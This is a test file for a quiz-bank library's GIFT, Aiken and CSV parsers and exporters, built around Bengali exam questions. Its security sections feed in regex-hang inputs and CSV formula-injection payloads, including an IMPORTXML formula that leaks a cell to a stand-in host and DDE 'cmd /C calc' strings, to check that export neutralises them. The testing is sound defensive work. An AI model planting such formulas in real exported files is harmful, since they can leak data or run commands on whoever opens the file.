import vm from "node:vm";
import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { parseAikenQuestions, parseCsvQuestions, parseGiftQuestions, safeCsvCell, toCsv, toGift, type ExportQuestion } from "~/lib/import/formats";

const unsupported = (qs: { kind: string; errors: string[] }[]) => qs.filter((q) => q.kind !== "mcq").map((q) => [q.kind, q.errors[0]]);

describe("GIFT", () => {
  const file = [
    "// A quiz from Moodle",
    "$CATEGORY: $course$/গণিত",
    "",
    "::Q1:: ২ + ২ = ? {=৪ ~৩ ~৫ ####কারণ দুই আর দুই চার}",
    "",
    "// board-year: dhaka, raj: 2019",
    "// marks: 2",
    // Braces in the text are escaped, as GIFT requires: \{ \}.
    "$\\frac\\{1\\}\\{2\\}$ এর দশমিক রূপ কোনটি? {",
    "  ~0.2 # না",
    "  =0.5",
    "  ~0.25",
    "}",
    "",
    "পৃথিবী গোল। {T}",
    "",
    "বাংলাদেশের রাজধানীর নাম লেখ। {=ঢাকা =Dhaka}",
    "",
    "মিলাও: {=ঢাকা -> ঢা.বো. =রাজশাহী -> রা.বো.}",
    "",
    "১০ এর বর্গমূল কত? {#3.162:0.001}",
    "",
    "নিজের ভাষায় লেখ। {}",
  ].join("\n");

  it("reads multiple-choice questions with feedback, escapes, math, board-year and marks", () => {
    const { questions } = parseGiftQuestions(file);
    const mcq = questions.filter((q) => q.kind === "mcq");
    expect(mcq).toHaveLength(2);
    expect(mcq[0]).toMatchObject({ body: "২ + ২ = ?", explanation: "কারণ দুই আর দুই চার", errors: [] });
    expect(mcq[0].options).toEqual([
      { body: "৪", isCorrect: true },
      { body: "৩", isCorrect: false },
      { body: "৫", isCorrect: false },
    ]);
    expect(mcq[1]).toMatchObject({ body: "$\\frac{1}{2}$ এর দশমিক রূপ কোনটি?", marks: "2", errors: [] });
    expect(mcq[1].sources).toEqual([
      { board: "dhaka", year: 2019 },
      { board: "raj", year: 2019 },
    ]);
    expect(mcq[1].options.map((o) => o.body)).toEqual(["0.2", "0.5", "0.25"]);
  });

  it("lists true/false, short-answer, matching, numerical and essay questions as unsupported", () => {
    expect(unsupported(parseGiftQuestions(file).questions)).toEqual([
      ["true/false", expect.stringContaining("unsupported question type: true/false")],
      ["short answer", expect.stringContaining("short answer")],
      ["matching", expect.stringContaining("matching")],
      ["numerical", expect.stringContaining("numerical")],
      ["essay", expect.stringContaining("essay")],
    ]);
  });
});

describe("Aiken", () => {
  const file = [
    "বাংলাদেশের জাতীয় ফুল কোনটি?",
    "A. গোলাপ",
    "B. শাপলা",
    "C. জবা",
    "D. বেলি",
    "ANSWER: B",
    "",
    "সূর্য পূর্ব দিকে ওঠে।",
    "ANSWER: TRUE",
    "",
    "পানির রাসায়নিক সংকেত লেখ।",
    "ANSWER: H2O",
    "",
    "মিলাও: ঢাকা -> রাজধানী",
    "ANSWER: ঢাকা -> রাজধানী",
    "",
    "শুধু একটি অপশন?",
    "A. এক",
    "ANSWER: A",
  ].join("\n");

  it("imports the multiple-choice questions and lists the others as unsupported", () => {
    const { questions } = parseAikenQuestions(file);
    expect(questions).toHaveLength(5);
    expect(questions[0]).toMatchObject({ kind: "mcq", body: "বাংলাদেশের জাতীয় ফুল কোনটি?", errors: [] });
    expect(questions[0].options.find((o) => o.isCorrect)?.body).toBe("শাপলা");
    expect(unsupported(questions).map(([k]) => k)).toEqual(["true/false", "short answer", "matching"]);
    expect(questions[4].errors).toEqual([expect.stringContaining("fewer than two options")]);
  });
});

describe("CSV", () => {
  it("reads Excel's UTF-8 CSV with a BOM and quoted newlines, and names each problem", () => {
    const csv = '\uFEFFQuestion,A,B,C,D,Answer,Board_Year\r\n"প্রথম লাইন\nদ্বিতীয় লাইন",১,২,৩,৪,খ,"dhaka: 19"\r\nকোন উত্তর নেই,১,২,,,,\r\nভুল বোর্ড,১,২,,,a,nowhere: 2019\r\n';
    const { questions, fileError } = parseCsvQuestions(csv);
    expect(fileError).toBeUndefined();
    expect(questions[0]).toMatchObject({ line: 2, body: "প্রথম লাইন\nদ্বিতীয় লাইন", errors: [], sources: [{ board: "dhaka", year: 2019 }] });
    expect(questions[0].options.find((o) => o.isCorrect)?.body).toBe("২");
    expect(questions[1].errors).toEqual([expect.stringContaining("missing or unknown answer key")]);
    expect(questions[2].errors).toEqual([expect.stringContaining("board-year not understood")]);
  });

  it("says what is wrong with a file that is not our CSV", () => {
    expect(parseCsvQuestions("just,some,columns\n1,2,3\n").fileError).toMatch(/question/);
    expect(parseCsvQuestions('question\n"unterminated\n').fileError).toMatch(/could not be read/);
  });
});

describe("hostile files", () => {
  // vm's watchdog interrupts even a regular expression that would never return, so a parser that
  // backtracks fails here in a fraction of a second instead of hanging the run.
  const within = (ms: number, run: () => unknown) => vm.runInNewContext("run()", { run }, { timeout: ms });
  const spaces = " ".repeat(100_000);
  const cases: [string, (text: string) => { questions: unknown[] }, string][] = [
    ["a GIFT title of 40 backslashes, never closed", parseGiftQuestions, `::${"\\".repeat(40)}`],
    ["a GIFT title of 1,000 backslashes", parseGiftQuestions, `::${"\\".repeat(1000)} {=a ~b}`],
    ["a GIFT title of escaped backslashes and colons", parseGiftQuestions, `::${"\\\\:".repeat(500)}`],
    ["a GIFT title of backslash-letter pairs", parseGiftQuestions, `::${"\\x".repeat(500)}`],
    ["an unterminated GIFT answer block", parseGiftQuestions, `প্রশ্ন {${"\\{~".repeat(50_000)}`],
    ["a GIFT comment with a long value and a stray carriage return", parseGiftQuestions, `// marks:${spaces}x\ry\nপ্রশ্ন {=a ~b}`],
    ["an Aiken answer with a long value and a stray carriage return", parseAikenQuestions, `প্রশ্ন\nA. এক\nB. দুই\nANSWER:${spaces}x\ry`],
    ["an Aiken option with a long value and a line separator", parseAikenQuestions, `প্রশ্ন\nA.${spaces}x\u2028y\nB. দুই\nANSWER: A`],
    ["a CSV cell of backslashes and quotes", parseCsvQuestions, `question,a,b,answer\n"${'\\""'.repeat(50_000)}",১,২,a\n`],
  ];

  it.each(cases)("reads %s in under 200 ms", (_name, parse, text) => {
    const { questions } = within(200, () => parse(text)) as { questions: unknown[] };
    expect(questions.length).toBeGreaterThan(0);
  });
});

describe("export then import", () => {
  const questions: ExportQuestion[] = [
    {
      intro: "নিচের উদ্দীপকটি পড় :\nএকটি ত্রিভুজ",
      body: 'সেট {1, 2} এর উপাদান "কয়টি"? $\\{x : x \\neq 0\\}$ ~ = # :',
      options: [
        { body: "১টি, বা দুটি", isCorrect: false },
        { body: "২টি", isCorrect: true },
        { body: "$\\frac{a}{b}$", isCorrect: false },
        { body: " ৪টি", isCorrect: false },
      ],
      explanation: "কারণ: {1, 2}\\ দুটি",
      sources: [
        { board: "dhaka", year: 2019 },
        { board: "cum", year: 2021 },
      ],
      marks: "1.5",
      difficulty: "hard",
    },
    { intro: "", body: "সহজ প্রশ্ন", options: [{ body: "হ্যাঁ", isCorrect: true }, { body: "না", isCorrect: false }], explanation: "", sources: [], marks: "1", difficulty: null },
  ];
  const strip = (qs: ReturnType<typeof parseCsvQuestions>["questions"]) => qs.map(({ line: _l, kind: _k, errors, warnings, ...q }) => (expect(errors).toEqual([]), expect(warnings).toEqual([]), q));

  it("is the identity through CSV", () => {
    const back = strip(parseCsvQuestions(toCsv(questions)).questions);
    // CSV keeps a leading space in a quoted cell, and we trim cells: the one change is that space.
    expect(back).toEqual(questions.map((q) => ({ ...q, options: q.options.map((o) => ({ ...o, body: o.body.trim() })) })));
  });

  it("is the identity through GIFT (escapes, LaTeX backslashes and braces survive)", () => {
    const back = strip(parseGiftQuestions(toGift(questions)).questions);
    expect(back).toEqual(questions.map((q) => ({ ...q, options: q.options.map((o) => ({ ...o, body: o.body.trim() })) })));
  });
});

describe("CSV export and spreadsheet formulas", () => {
  const hostile = [
    '=HYPERLINK("http://x","y")',
    '=IMPORTXML("http://x/?leak="&A1,"//a")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
  ];
  const question = (options: string[], more: Partial<ExportQuestion> = {}): ExportQuestion => ({
    intro: "",
    body: "কোনটি?",
    options: options.map((body, i) => ({ body, isCorrect: i === 0 })),
    explanation: "",
    sources: [],
    marks: "1",
    difficulty: null,
    ...more,
  });

  it("writes every cell a spreadsheet would run as a formula with a leading apostrophe", () => {
    const csv = toCsv([question(hostile.slice(0, 5), { body: hostile[5], explanation: hostile[6], intro: hostile[7] })]);
    const [, row] = parseCsv(csv, { bom: true, relax_column_count: true }) as string[][];
    const written = row.filter((cell) => hostile.some((h) => cell.endsWith(h)));
    expect(written).toHaveLength(hostile.length);
    for (const cell of written) expect(cell).toMatch(/^'[=+\-@\t\r]/);
    expect(safeCsvCell('=HYPERLINK("http://x","y")')).toBe(`"'=HYPERLINK(""http://x"",""y"")"`);
    expect(safeCsvCell("\t=1")).toBe("'\t=1");
    expect(safeCsvCell("২ - ১")).toBe("২ - ১");
  });

  it("reads the apostrophe off again: maths options and formula-like text come back as they were", () => {
    const options = ["-1", "+2", "=3", "@x", "'=4"];
    const original = question(options, { body: "=SUM(1,2) কত?", explanation: "''-১ কারণ", intro: "@উদ্দীপক" });
    const csv = toCsv([original]);
    expect(csv).toContain(",'-1,'+2,'=3,'@x,''=4,");
    const [back] = parseCsvQuestions(csv).questions;
    expect(back.errors).toEqual([]);
    expect(back).toMatchObject({ body: original.body, explanation: original.explanation, intro: original.intro });
    expect(back.options.map((o) => o.body)).toEqual(options);
  });
});
